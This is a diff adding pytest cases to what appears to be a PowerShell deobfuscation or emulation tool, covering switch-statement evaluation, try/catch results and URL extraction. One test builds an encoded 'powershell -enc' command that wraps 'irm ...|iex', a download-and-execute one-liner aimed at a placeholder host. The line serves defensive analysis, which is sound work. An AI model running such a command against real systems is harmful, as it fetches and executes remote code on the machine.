@@ -332,3 +332,21 @@ def test_programs_started_by_compiled_code():
 def test_a_file_that_is_not_here_is_told_by_its_name(text):
     """It may lie there because something else brought it, and then its content is what runs."""
     assert run(text).values("effect.eval")[-1].count("<Unknown: content of file C:\\pub\\b.ps1>")
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("-join('a','B',3,[char]'c','zz'|%{switch($_){'a'{1}'b'{2}'C'{3}'3'{'n'}'B'{'again'}default{'d'}}})", "12againn3d"),
+        ("-join(1,2,'1'|%{switch($_){1{'a'}2{'b'}1{'c'}}})", "acbac"),
+        ("-join('a','A'|%{switch -CaseSensitive ($_){'A'{1}default{0}}})", "01"),
+        ('$(try{throw 1}catch{$x=1;"$?"})', "True"),
+    ],
+)
+def test_what_switch_and_the_outcome_of_statements_come_to(text, said):
+    assert value(text) == said
+
+
+def test_powershell_that_calls_powershell_with_what_it_works_out():
+    text = "powershell -enc ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('irm http://a.example.test/|iex')))"
+    assert run(text).urls == ["http://a.example.test/"]
